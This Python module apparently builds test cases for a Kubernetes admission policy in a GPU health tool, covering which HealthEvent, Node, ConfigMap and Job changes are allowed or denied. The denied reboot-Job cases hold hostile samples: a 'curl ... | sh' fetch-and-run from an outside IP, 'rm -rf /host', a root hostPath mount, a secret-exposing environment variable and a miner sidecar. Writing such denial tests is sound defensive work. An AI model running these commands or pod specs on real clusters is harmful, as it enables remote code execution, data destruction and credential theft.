"""The admission cases ("a node speaks only for itself", docs/security.md): one table, two enforcers.

Each case is a plain dict, the same for the chart's ValidatingAdmissionPolicy (evaluated with a real CEL
implementation in tests/helm/test_chart_admission_policy.py) and for the admission webhook's decision
function (nvsentinel/policy/admission.py):

    name        what the case shows
    user        request.userInfo.username
    node_claim  the node of the caller's bound token (userInfo.extra authentication.kubernetes.io/node-name);
                None: the token names no node
    operation   CREATE | UPDATE | DELETE
    kind        healthevents | nodes | nodes/status | configmaps | jobs
    object      the object as admission sees it (after defaulting; None for DELETE)
    old_object  the stored object (None for CREATE)
    expect      allow | deny
    rule        the first rule a denial breaks, in RULE_ORDER (None when allowed)

The objects are the real ones: HealthEvents built by the publisher's `observe` and the remediation agent's
`verification_event`, Node updates made by applying the quarantine and resolution stages' own merge patches and
the conditions stage's strategic merge patch of nodes/status,
the breaker ConfigMap as the quarantine controller writes it, and reboot Jobs from the remediation stage's
`job_body`, each with what the API server adds before validating admission (uid, creationTimestamp,
defaults). Every attack has an allowed counterpart, and an operator (or another identity) doing the same
forbidden thing is untouched.

`build_cases(setup)` builds the table for a chart configuration; `CASES` is the one for the chart's
defaults (release `nvs` in namespace `nvsentinel`, as tests/helm/helmchart.py renders it).
"""
from __future__ import annotations

import copy
import dataclasses
import datetime as dt
import uuid
from collections.abc import Mapping
from typing import Any

from nvsentinel._proto import gpu_pb2
from nvsentinel.cluster.conditions.logic import plan as conditions_plan
from nvsentinel.cluster.quarantine.config import QuarantineConfig
from nvsentinel.cluster.quarantine.logic import plan_node
from nvsentinel.cluster.remediation.config import DEFAULT_REBOOT_COMMAND, RemediationConfig
from nvsentinel.cluster.remediation.logic import STRATEGY_ANNOTATION, job_body
from nvsentinel.cluster.resolution.config import ResolutionConfig
from nvsentinel.cluster.resolution.logic import plan_release
from nvsentinel.node.publisher.logic import Context, observe
from nvsentinel.node.remediation_agent.logic import verification_event
from nvsentinel.policy.conditions import NVML_HEALTHY, REASON_RECOVERED
from nvsentinel.policy.healthevent import LABEL_NODE, HealthEvent, Phase, format_time
from nvsentinel.policy.naming import label_value
from nvsentinel.xid import default_catalog

__all__ = ["RULES", "RULE_ORDER", "Setup", "DEFAULT", "build_cases", "CASES", "NODE_NAME_CLAIM", "user_of"]

#: The rules, in the order a decision checks them (the first broken one is a denial's `rule`).
RULES: dict[str, str] = {
    "N1": "a node identity only creates HealthEvents (no update, patch, delete)",
    "N2": "a node identity has a node (a bound token's node-name claim) and creates events for it only",
    "N3": "the nvsentinel.nvidia.com/node label, when present, names the token's node",
    "N4": "a node identity sets no spec.overrides flag (quarantine/drain force/skip)",
    "N5": "a node identity sets no nvsentinel.nvidia.com/ annotation",
    "N6": "spec.detectedAt is at most maxClockSkewSeconds after creationTimestamp",
    "N7": "a healthy event from a node names a GPU (entitiesImpacted type GPU, non-empty value)",
    "S1": "quarantine/resolution change only spec.unschedulable, their taint and nvsentinel.nvidia.com/ keys of a Node",
    "S2": "quarantine writes only its breaker ConfigMap <prefix>-circuit-breaker",
    "S3": "remediation creates only reboot Jobs of job_body's shape, image and command",
    "S4": "the conditions stage changes only Node conditions of its own types (nodes/status), nothing else",
}
RULE_ORDER: tuple[str, ...] = tuple(RULES)

NODE_NAME_CLAIM = "authentication.kubernetes.io/node-name"

NODE = "gpu-node-7"
OTHER = "gpu-node-8"
#: Over 63 characters: its label is label_value()'s cut + hash.
LONG = "gke-prod-a100-cluster-gpu-pool-a2-highgpu-8g-5f3c9a1b-7k2m.us-central1-a.c.example-project.internal"
LONG_OTHER = "gke-prod-h100-cluster-gpu-pool-a3-highgpu-8g-77d0e2c4-q9xw.us-central1-b.c.example-project.internal"
UUID = "GPU-196b7c1a-b6d3-9791-4798-481be2406bdb"
OPERATOR = "kubernetes-admin"
#: When the API server stamps the events' creation (the clock N6 measures against).
CREATED = dt.datetime(2026, 1, 15, 10, 0, 0, tzinfo=dt.timezone.utc)
_T0 = CREATED - dt.timedelta(minutes=3)


@dataclasses.dataclass(frozen=True)
class Setup:
    """The chart values the rules are rendered from (release namespace, prefix, controllers, admission)."""

    namespace: str = "nvsentinel"
    prefix: str = "nvs"
    #: the effective reboot image (controllers.remediation.rebootImage, else the chart's own image)
    reboot_image: str = "nvsentinel:0.1.0"
    reboot_command: str = DEFAULT_REBOOT_COMMAND
    taint_key: str = "nvsentinel.nvidia.com/quarantine"
    max_clock_skew_seconds: int = 60
    require_gpu_on_healthy: bool = True
    #: controllers.conditions.mirror: off, or external/always (AcceleratedHardwareReady becomes ours to write)
    mirror: str = "off"

    @property
    def breaker_configmap(self) -> str:
        return f"{self.prefix}-circuit-breaker"


DEFAULT = Setup()


def user_of(setup: Setup, component: str) -> str:
    """The username of `<prefix>-<component>` in the release namespace."""
    return f"system:serviceaccount:{setup.namespace}:{setup.prefix}-{component}"


def _case(name: str, user: str, operation: str, kind: str, obj: Mapping[str, Any] | None,
          old: Mapping[str, Any] | None, rule: str | None, node_claim: str | None = None) -> dict[str, Any]:
    return {"name": name, "user": user, "node_claim": node_claim, "operation": operation, "kind": kind,
            "object": copy.deepcopy(obj), "old_object": copy.deepcopy(old),
            "expect": "deny" if rule else "allow", "rule": rule}


def _merge(target: Any, patch: Any) -> Any:
    """RFC 7386 JSON merge patch, as the API server applies the stages' patches."""
    if not isinstance(patch, Mapping):
        return copy.deepcopy(patch)
    out = dict(target) if isinstance(target, Mapping) else {}
    for k, v in patch.items():
        if v is None:
            out.pop(k, None)
        else:
            out[k] = _merge(out.get(k), v)
    return out


def _edit(obj: Mapping[str, Any], patch: Mapping[str, Any]) -> dict[str, Any]:
    return _merge(copy.deepcopy(obj), patch)


# ---- HealthEvents, as the node writes them -----------------------------------------------------------------

def _gpu(*conds: tuple[str, str, dt.datetime]) -> gpu_pb2.Gpu:
    g = gpu_pb2.Gpu(resource_version=1)
    g.metadata.name = UUID
    g.spec.uuid = UUID
    for status, reason, at in conds:
        c = g.status.conditions.add(type=NVML_HEALTHY, status=status, reason=reason, message=f"{NVML_HEALTHY} {reason}")
        c.last_transition_time.seconds = int(at.timestamp())
        c.last_transition_time.nanos = at.microsecond * 1000
    g.status.recommended_action = "RESTART_BM" if status == "False" else ""
    return g


def _published(node: str) -> tuple[HealthEvent, HealthEvent]:
    """(fatal, healthy): XID 79 on the GPU, then its recovery, through the publisher's own decisions."""
    ctx = Context(node_name=node, catalog=default_catalog())
    view, fatal = observe(None, _gpu(("False", "Xid79", _T0 + dt.timedelta(microseconds=250_000))), CREATED, ctx)
    _, healthy = observe(view, _gpu(("True", REASON_RECOVERED, _T0 + dt.timedelta(minutes=2))), CREATED, ctx)
    assert len(fatal) == 1 and len(healthy) == 1 and healthy[0].spec.is_healthy
    return fatal[0], healthy[0]


def _admitted_event(ev: HealthEvent, created: dt.datetime = CREATED) -> dict[str, Any]:
    """The create body after the API server's part: uid, creationTimestamp, generation, CRD defaults."""
    body = ev.create_body()
    body["metadata"].update(uid=str(uuid.uuid5(uuid.NAMESPACE_URL, ev.name)),
                            creationTimestamp=format_time(created), generation=1)
    body["status"] = {"phase": "New"}
    return body


def _event_cases(s: Setup) -> list[dict[str, Any]]:
    pub, agent = user_of(s, "publisher"), user_of(s, "remediation-agent")
    skew = dt.timedelta(seconds=s.max_clock_skew_seconds)
    fatal_ev, healthy_ev = _published(NODE)
    fatal, healthy = _admitted_event(fatal_ev), _admitted_event(healthy_ev)
    remediated = dataclasses.replace(fatal_ev, uid="uid-1")
    verified = _admitted_event(verification_event(NODE, UUID, remediated, _T0 + dt.timedelta(minutes=2)))
    other_fatal = _admitted_event(_published(OTHER)[0])
    long_fatal = _admitted_event(_published(LONG)[0])
    long_other = _admitted_event(_published(LONG_OTHER)[0])
    n7 = "N7" if s.require_gpu_on_healthy else None

    def detected(at: dt.datetime) -> dict[str, Any]:
        return _edit(fatal, {"spec": {"detectedAt": format_time(at)}})

    def c(name: str, obj: Any, rule: str | None, *, user: str = pub, op: str = "CREATE", old: Any = None,
          claim: str | None = NODE) -> dict[str, Any]:
        return _case(name, user, op, "healthevents", obj, old, rule, claim)

    return [
        # what the node agents really write
        c("publisher creates a fatal event for its own node", fatal, None),
        c("publisher creates a healthy event naming the recovered GPU", healthy, None),
        c("remediation agent creates its verification event", verified, None, user=agent),
        c("node named over 63 characters, with the publisher's cut-and-hash label", long_fatal, None, claim=LONG),
        c("event without the node label", _edit(fatal, {"metadata": {"labels": {LABEL_NODE: None}}}), None),
        c("event without spec.overrides", _edit(fatal, {"spec": {"overrides": None}}), None),
        c("an annotation outside nvsentinel.nvidia.com/", _edit(fatal, {"metadata": {"annotations": {
            "example.com/ticket": "OPS-1234"}}}), None),
        c("detectedAt exactly creationTimestamp + maxClockSkewSeconds", detected(CREATED + skew), None),
        c("detectedAt a day before creation (a fault seen long ago)", detected(CREATED - dt.timedelta(days=1)), None),
        # N1: create only
        c("publisher updates its own event (clears isFatal)", _edit(fatal, {"spec": {"isFatal": False}}), "N1",
          op="UPDATE", old=fatal),
        c("remediation agent marks its node's event Resolved", _edit(fatal, {"status": {"phase": "Resolved"}}), "N1",
          user=agent, op="UPDATE", old=fatal),
        c("publisher deletes its own event", None, "N1", op="DELETE", old=fatal),
        c("remediation agent deletes another node's event", None, "N1", user=agent, op="DELETE", old=other_fatal),
        c("update with a token naming no node", _edit(fatal, {"spec": {"isFatal": False}}), "N1", op="UPDATE",
          old=fatal, claim=None),
        # N2: a node, and only its own
        c("publisher token naming no node (a legacy Secret token)", fatal, "N2", claim=None),
        c("remediation agent token naming no node", verified, "N2", user=agent, claim=None),
        c("an event for another node, as its publisher would build it", other_fatal, "N2"),
        c("spec.nodeName of another node under its own node label", _edit(other_fatal, {"metadata": {"labels": {
            LABEL_NODE: label_value(NODE)}}}), "N2"),
        c("remediation agent verifies another node's GPU", _admitted_event(verification_event(
            OTHER, UUID, remediated, _T0 + dt.timedelta(minutes=2))), "N2", user=agent),
        # N3: the label too
        c("own nodeName under another node's label", _edit(fatal, {"metadata": {"labels": {LABEL_NODE: OTHER}}}), "N3"),
        c("node named over 63 characters, under another long node's label", _edit(long_fatal, {"metadata": {
            "labels": {LABEL_NODE: long_other["metadata"]["labels"][LABEL_NODE]}}}), "N3", claim=LONG),
        # N4: no overrides
        *[c(f"spec.overrides.{stage}.{flag} set by a node", _edit(fatal, {"spec": {"overrides": {stage: {flag: True}}}}),
            "N4") for stage in ("quarantine", "drain") for flag in ("force", "skip")],
        # N5: no nvsentinel.nvidia.com/ annotations
        c("remediation-strategy annotation (terminate the node) set by a node", _edit(fatal, {"metadata": {
            "annotations": {STRATEGY_ANNOTATION: "terminate"}}}), "N5"),
        c("another nvsentinel.nvidia.com/ annotation set by a node", _edit(verified, {"metadata": {"annotations": {
            "nvsentinel.nvidia.com/escalation": "skip"}}}), "N5", user=agent),
        # N6: nothing dated in the future
        c("detectedAt in 2099 (never expires from TTL, sorts last)", detected(dt.datetime(
            2099, 1, 1, tzinfo=dt.timezone.utc)), "N6"),
        c("detectedAt creationTimestamp + maxClockSkewSeconds + 1 s", detected(CREATED + skew + dt.timedelta(
            seconds=1)), "N6"),
        c("healthy event dated an hour ahead", _edit(healthy, {"spec": {"detectedAt": format_time(
            CREATED + dt.timedelta(hours=1))}}), "N6"),
        # N7: a healthy event names its GPU
        c("healthy event naming no GPU (a node-wide all-clear)", _edit(healthy, {"spec": {"entitiesImpacted": []}}), n7),
        c("healthy event naming a PCI device only", _edit(healthy, {"spec": {"entitiesImpacted": [
            {"type": "PCI", "value": "0000:3b:00.0"}]}}), n7),
        c("verification event without entitiesImpacted", _edit(verified, {"spec": {"entitiesImpacted": None}}), n7,
          user=agent),
        # every other identity is untouched
        c("operator creates an event with overrides and a strategy for any node", _edit(other_fatal, {
            "metadata": {"annotations": {STRATEGY_ANNOTATION: "terminate"}},
            "spec": {"overrides": {"quarantine": {"force": True}}, "detectedAt": "2099-01-01T00:00:00Z"}}), None,
          user=OPERATOR, claim=None),
        c("operator annotates an event with a remediation strategy", _edit(fatal, {"metadata": {"annotations": {
            STRATEGY_ANNOTATION: "reboot"}}}), None, user=OPERATOR, op="UPDATE", old=fatal, claim=None),
        c("the TTL controller deletes an event", None, None, user=user_of(s, "ttl-controller"), op="DELETE",
          old=fatal, claim=None),
        c("the quarantine controller updates an event", _edit(fatal, {"status": {"phase": "Quarantined"}}), None,
          user=user_of(s, "quarantine-controller"), op="UPDATE", old=fatal, claim=None),
        c("a publisher of another namespace (another release) is not ours", other_fatal, None,
          user=f"system:serviceaccount:{s.namespace}-other:{s.prefix}-publisher"),
    ]


# ---- Nodes, as the quarantine and resolution stages change them ---------------------------------------------

def _node(name: str = NODE) -> dict[str, Any]:
    """A GPU node as the API server returns it."""
    return {
        "apiVersion": "v1", "kind": "Node",
        "metadata": {
            "name": name, "uid": "0b6f4a53-8f5e-4d3c-9b1a-2c7d8e9f0a1b", "resourceVersion": "481516",
            "creationTimestamp": "2025-11-02T08:15:00Z",
            "labels": {"kubernetes.io/hostname": name, "kubernetes.io/os": "linux", "kubernetes.io/arch": "amd64",
                       "node.kubernetes.io/instance-type": "p4d.24xlarge", "nvidia.com/gpu.present": "true",
                       "nvidia.com/gpu.product": "NVIDIA-A100-SXM4-40GB", "topology.kubernetes.io/zone": "us-west-2a"},
            "annotations": {"node.alpha.kubernetes.io/ttl": "0",
                            "volumes.kubernetes.io/controller-managed-attach-detach": "true"},
        },
        "spec": {"podCIDR": "10.244.7.0/24", "podCIDRs": ["10.244.7.0/24"],
                 "providerID": "aws:///us-west-2a/i-0a1b2c3d4e5f67890",
                 "taints": [{"key": "nvidia.com/gpu", "value": "present", "effect": "NoSchedule"}]},
        "status": {
            "capacity": {"cpu": "96", "memory": "1176746316Ki", "nvidia.com/gpu": "8", "pods": "110"},
            "allocatable": {"cpu": "95690m", "memory": "1163962188Ki", "nvidia.com/gpu": "8", "pods": "110"},
            "conditions": [{"type": "Ready", "status": "True", "reason": "KubeletReady",
                            "lastHeartbeatTime": "2026-01-15T09:59:40Z", "lastTransitionTime": "2025-11-02T08:16:10Z"}],
            "nodeInfo": {"kubeletVersion": "v1.31.4", "containerRuntimeVersion": "containerd://1.7.24",
                         "osImage": "Ubuntu 22.04.5 LTS", "kernelVersion": "5.15.0-1072-aws"},
        },
    }


def _node_cases(s: Setup) -> list[dict[str, Any]]:
    quarantine, resolution = user_of(s, "quarantine-controller"), user_of(s, "resolution-controller")
    qcfg = QuarantineConfig(taint_key=s.taint_key, breaker_configmap=s.breaker_configmap)
    node = _node()
    plan = plan_node(node, "gpu-node-7.196b7c1a.xid79.1768470970", now=CREATED, cfg=qcfg)
    assert plan.patch is not None
    quarantined = _edit(node, plan.patch)
    second = plan_node(quarantined, "gpu-node-7.196b7c1a.xid48.1768471000", now=CREATED, cfg=qcfg)
    assert second.patch is not None
    release = plan_release(quarantined, 0, ResolutionConfig(taint_key=s.taint_key))
    assert release is not None
    cordoned = _edit(node, {"spec": {"unschedulable": True}})
    theirs = plan_node(cordoned, "gpu-node-7.196b7c1a.xid79.1768470970", now=CREATED, cfg=qcfg)
    assert theirs.patch is not None

    def c(name: str, old: Any, patch: Mapping[str, Any], rule: str | None, *, user: str = quarantine
          ) -> dict[str, Any]:
        return _case(name, user, "UPDATE", "nodes", _edit(old, patch), old, rule)

    return [
        c("quarantine cordons, taints and records ownership (its own patch)", node, plan.patch, None),
        c("quarantine adds a second event to its record", quarantined, second.patch, None),
        c("quarantine taints a node someone else cordoned", cordoned, theirs.patch, None),
        c("resolution uncordons and removes its taint and record (its own patch)", quarantined, release.patch, None,
          user=resolution),
        c("quarantine changes another label (gpu.present)", node, {**plan.patch, "metadata": {
            **plan.patch["metadata"], "labels": {"nvidia.com/gpu.present": "false"}}}, "S1"),
        c("quarantine adds a label outside nvsentinel.nvidia.com/", node, {"metadata": {"labels": {
            "node-role.kubernetes.io/control-plane": ""}}}, "S1"),
        c("quarantine removes another label", node, {"metadata": {"labels": {"topology.kubernetes.io/zone": None}}},
          "S1"),
        c("resolution removes another taint along with ours", quarantined, _merge(release.patch, {"spec": {
            "taints": []}}), "S1", user=resolution),
        c("quarantine changes another taint's effect", node, {"spec": {"taints": [
            {"key": "nvidia.com/gpu", "value": "present", "effect": "PreferNoSchedule"}]}}, "S1"),
        c("quarantine changes spec.podCIDR", node, {"spec": {"podCIDR": "10.244.99.0/24"}}, "S1"),
        c("quarantine removes spec.providerID (the terminate strategy keys on it)", node, {"spec": {
            "providerID": None}}, "S1"),
        c("quarantine changes another annotation", node, {"metadata": {"annotations": {
            "node.alpha.kubernetes.io/ttl": "30"}}}, "S1"),
        c("resolution removes another annotation", quarantined, {"metadata": {"annotations": {
            "volumes.kubernetes.io/controller-managed-attach-detach": None}}}, "S1", user=resolution),
        c("quarantine adds a finalizer (the node could never be deleted)", node, {"metadata": {
            "finalizers": ["example.com/hold"]}}, "S1"),
        c("quarantine zeroes the GPU capacity in status", node, {"status": {"capacity": {"nvidia.com/gpu": "0"}}},
          "S1"),
        c("an nvsentinel.nvidia.com/ label is ours to set", node, {"metadata": {"labels": {
            "nvsentinel.nvidia.com/quarantined": "true"}}}, None),
        c("operator relabels the node and changes its podCIDR", node, {"metadata": {"labels": {
            "nvidia.com/gpu.present": "false"}}, "spec": {"podCIDR": "10.244.99.0/24"}}, None, user=OPERATOR),
        c("the node's kubelet updates its own labels", node, {"metadata": {"labels": {
            "node.kubernetes.io/instance-type": "p5.48xlarge"}}}, None, user=f"system:node:{NODE}"),
        c("the drain controller (not a Node writer here) changes a taint", node, {"spec": {"taints": []}}, None,
          user=user_of(s, "drain-controller")),
    ]


# ---- Node conditions, as the conditions stage writes them (nodes/status) ----------------------------------------

def _merge_conditions(node: Mapping[str, Any], patch: Mapping[str, Any]) -> dict[str, Any]:
    """The strategic merge of a nodes/status patch's conditions, by `type`, as the API server applies it."""
    out = copy.deepcopy(dict(node))
    conds = out["status"]["conditions"]
    for c in patch["status"]["conditions"]:
        at = next((i for i, old in enumerate(conds) if old["type"] == c["type"]), None)
        if at is None:
            conds.append(copy.deepcopy(c))
        else:
            conds[at] = {**conds[at], **c}
    return out


def _condition_cases(s: Setup) -> list[dict[str, Any]]:
    conditions = user_of(s, "conditions-controller")
    fatal_ev, _ = _published(NODE)
    quarantined = dataclasses.replace(fatal_ev, status=dataclasses.replace(fatal_ev.status, phase=Phase.QUARANTINED))
    node = _node()
    npd = {"type": "KernelDeadlock", "status": "False", "reason": "KernelHasNoDeadlock",
           "lastHeartbeatTime": "2026-01-15T09:59:00Z", "lastTransitionTime": "2025-11-02T08:16:10Z"}
    node["status"]["conditions"].append(npd)
    ours = conditions_plan(node, [quarantined], "off", CREATED)
    assert ours.patch is not None
    unhealthy = _merge_conditions(node, ours.patch)
    cleared = conditions_plan(unhealthy, [], "off", CREATED + dt.timedelta(hours=1))
    assert cleared.patch is not None
    mirrored = conditions_plan(node, [quarantined], "always", CREATED)
    assert mirrored.patch is not None
    mirror_rule = None if s.mirror != "off" else "S4"

    def c(name: str, old: Any, new: Any, rule: str | None, *, user: str = conditions) -> dict[str, Any]:
        return _case(name, user, "UPDATE", "nodes/status", new, old, rule)

    def with_cond(old: dict[str, Any], cond: Mapping[str, Any]) -> dict[str, Any]:
        return _merge_conditions(old, {"status": {"conditions": [cond]}})

    not_ready = {**node["status"]["conditions"][0], "status": "False", "reason": "KubeletNotReady"}
    return [
        c("the conditions stage sets NVSentinelGPUHealthy False (its own patch)", node, unhealthy, None),
        c("the conditions stage clears NVSentinelGPUHealthy (its own patch)", unhealthy,
          _merge_conditions(unhealthy, cleared.patch), None),
        c("the conditions stage writes the AcceleratedHardwareReady mirror", node,
          _merge_conditions(node, mirrored.patch), mirror_rule),
        c("the conditions stage marks the node NotReady", node, with_cond(node, not_ready), "S4"),
        c("the conditions stage removes Node Problem Detector's condition", unhealthy, _edit(unhealthy, {
            "status": {"conditions": [x for x in unhealthy["status"]["conditions"] if x["type"] != "KernelDeadlock"]}}),
          "S4"),
        c("the conditions stage zeroes the GPU capacity", node, _edit(node, {"status": {
            "capacity": {"nvidia.com/gpu": "0"}, "allocatable": {"nvidia.com/gpu": "0"}}}), "S4"),
        c("the conditions stage relabels the node through its status", node, _edit(node, {"metadata": {"labels": {
            "nvidia.com/gpu.present": "false"}}}), "S4"),
        c("the kubelet updates its node's status", node, with_cond(node, not_ready), None,
          user=f"system:node:{NODE}"),
        c("the quarantine controller (not the conditions writer) and a status update", node, unhealthy, None,
          user=user_of(s, "quarantine-controller")),
    ]


# ---- ConfigMaps, as the quarantine stage writes its breaker --------------------------------------------------

def _configmap(name: str, ns: str, data: Mapping[str, str]) -> dict[str, Any]:
    return {"apiVersion": "v1", "kind": "ConfigMap",
            "metadata": {"name": name, "namespace": ns, "uid": "7c1e8d2a-3b4f-4a5e-9c6d-1e2f3a4b5c6d",
                         "resourceVersion": "90210", "creationTimestamp": "2026-01-15T09:00:00Z",
                         "labels": {"app.kubernetes.io/managed-by": "nvsentinel"}},
            "data": dict(data)}


def _configmap_cases(s: Setup) -> list[dict[str, Any]]:
    quarantine = user_of(s, "quarantine-controller")
    breaker = _configmap(s.breaker_configmap, s.namespace, {
        "tripped": "false", "cordons": "[]", "percent": "10", "maxNodes": "50", "windowSeconds": "600"})
    tripped = _edit(breaker, {"data": {"tripped": "true", "trippedAt": "2026-01-15T10:00:00Z"}})
    policy = _configmap(f"{s.prefix}-policy", s.namespace, {"ttlAfterResolved": "168h", "retentionMode": "standard"})
    gutted = _edit(policy, {"data": {"ttlAfterResolved": "1s"}})
    unrelated = _configmap("app-settings", s.namespace, {"feature": "on"})

    def c(name: str, op: str, obj: Any, old: Any, rule: str | None, user: str = quarantine) -> dict[str, Any]:
        return _case(name, user, op, "configmaps", obj, old, rule)

    return [
        c("quarantine creates its breaker ConfigMap", "CREATE", breaker, None, None),
        c("quarantine records a trip in its breaker ConfigMap", "UPDATE", tripped, breaker, None),
        c("quarantine deletes its breaker ConfigMap", "DELETE", None, breaker, None),
        c("quarantine rewrites the TTL policy ConfigMap", "UPDATE", gutted, policy, "S2"),
        c("quarantine deletes the TTL policy ConfigMap", "DELETE", None, policy, "S2"),
        c("quarantine creates an unrelated ConfigMap", "CREATE", unrelated, None, "S2"),
        c("operator edits the TTL policy ConfigMap", "UPDATE", gutted, policy, None, user=OPERATOR),
        c("operator resets the breaker", "DELETE", None, tripped, None, user=OPERATOR),
    ]


# ---- Jobs, as the remediation stage creates its reboot Job --------------------------------------------------

def _admitted_job(body: Mapping[str, Any]) -> dict[str, Any]:
    """job_body after the API server's part: uid, creationTimestamp, the Job's selector labels, defaults."""
    job = copy.deepcopy(dict(body))
    uid = "3d9c7b1e-5a2f-4c8d-b6e0-9f1a2b3c4d5e"
    meta = job["metadata"]
    meta.update(uid=uid, creationTimestamp=format_time(CREATED), generation=1)
    meta["labels"] = {**meta["labels"], "batch.kubernetes.io/controller-uid": uid, "controller-uid": uid,
                      "batch.kubernetes.io/job-name": meta["name"], "job-name": meta["name"]}
    spec = job["spec"]
    spec.update(completions=1, parallelism=1, completionMode="NonIndexed", suspend=False,
                podReplacementPolicy="TerminatingOrFailed",
                selector={"matchLabels": {"batch.kubernetes.io/controller-uid": uid}})
    tmpl = spec["template"]
    tmpl["metadata"]["labels"] = {**tmpl["metadata"]["labels"], "batch.kubernetes.io/controller-uid": uid,
                                  "controller-uid": uid, "batch.kubernetes.io/job-name": meta["name"],
                                  "job-name": meta["name"]}
    pod = tmpl["spec"]
    pod.update(dnsPolicy="ClusterFirst", schedulerName="default-scheduler", securityContext={})
    for c in pod["containers"]:
        c.update(imagePullPolicy="IfNotPresent", terminationMessagePath="/dev/termination-log",
                 terminationMessagePolicy="File")
    return job


def _job_cases(s: Setup) -> list[dict[str, Any]]:
    remediation = user_of(s, "remediation-controller")
    cfg = RemediationConfig(reboot_image=s.reboot_image, reboot_command=s.reboot_command, namespace=s.namespace)
    fatal_ev, _ = _published(NODE)
    event = dataclasses.replace(fatal_ev, uid="8e2b6c4a-1d3f-4b5a-9c7e-0f1a2b3c4d5e")
    job = _admitted_job(job_body(event, 1, cfg))
    third = _admitted_job(job_body(event, 3, cfg))

    def pod(patch: Mapping[str, Any]) -> dict[str, Any]:
        return _edit(job, {"spec": {"template": {"spec": patch}}})

    container = job["spec"]["template"]["spec"]["containers"][0]

    def with_container(patch: Mapping[str, Any]) -> dict[str, Any]:
        return pod({"containers": [_merge(container, patch)]})

    def c(name: str, obj: Any, rule: str | None, user: str = remediation) -> dict[str, Any]:
        return _case(name, user, "CREATE", "jobs", obj, None, rule)

    return [
        c("remediation creates its reboot Job (job_body)", job, None),
        c("remediation creates the third attempt's reboot Job", third, None),
        c("a Job not named nvsentinel-reboot-*", _edit(job, {"metadata": {"name": "backup-etcd"}}), "S3"),
        c("another image (an attacker's)", with_container({"image": "registry.example.com/miner:1"}), "S3"),
        c("another command", with_container({"command": ["sh", "-c", "curl -s http://198.51.100.7/x | sh"]}), "S3"),
        c("the reboot command with extra args", with_container({"args": ["--", "rm", "-rf", "/host"]}), "S3"),
        c("an extra hostPath volume, mounted", _merge(with_container({"volumeMounts": [
            {"name": "host", "mountPath": "/host"}]}), {"spec": {"template": {"spec": {"volumes": [
                {"name": "host", "hostPath": {"path": "/", "type": "Directory"}}]}}}}), "S3"),
        c("an extra volume, not even mounted", pod({"volumes": [{"name": "creds", "secret": {
            "secretName": "cloud-credentials"}}]}), "S3"),
        c("environment from a Secret", with_container({"env": [{"name": "TOKEN", "valueFrom": {"secretKeyRef": {
            "name": "cloud-credentials", "key": "token"}}}]}), "S3"),
        c("hostNetwork", pod({"hostNetwork": True}), "S3"),
        c("hostIPC", pod({"hostIPC": True}), "S3"),
        c("no hostPID (the reboot could not reach the host)", pod({"hostPID": False}), "S3"),
        c("a second container", pod({"containers": [container, _merge(container, {
            "name": "sidecar", "image": "registry.example.com/miner:1", "command": ["/miner"]})]}), "S3"),
        c("an init container", pod({"initContainers": [_merge(container, {"name": "init"})]}), "S3"),
        c("the container renamed", with_container({"name": "rebooter"}), "S3"),
        c("automountServiceAccountToken true", pod({"automountServiceAccountToken": True}), "S3"),
        c("automountServiceAccountToken unset (the default mounts a token)", pod({
            "automountServiceAccountToken": None}), "S3"),
        c("a powerful service account", pod({"serviceAccountName": f"{s.prefix}-quarantine-controller"}), "S3"),
        c("pinned to another node than its annotation names", pod({"nodeName": OTHER}), "S3"),
        c("no node annotation", _edit(job, {"metadata": {"annotations": {"nvsentinel.nvidia.com/node": None}}}),
          "S3"),
        c("operator creates an arbitrary privileged Job", pod({"hostNetwork": True, "containers": [_merge(
            container, {"image": "registry.example.com/debug:1", "command": ["sleep", "infinity"]})]}), None,
          user=OPERATOR),
    ]


def build_cases(setup: Setup = DEFAULT) -> list[dict[str, Any]]:
    """Every case for a chart configuration; names are unique."""
    cases = (_event_cases(setup) + _node_cases(setup) + _condition_cases(setup) + _configmap_cases(setup)
             + _job_cases(setup))
    names = [c["name"] for c in cases]
    assert len(names) == len(set(names)), "duplicate case names"
    return cases


CASES: list[dict[str, Any]] = build_cases(DEFAULT)
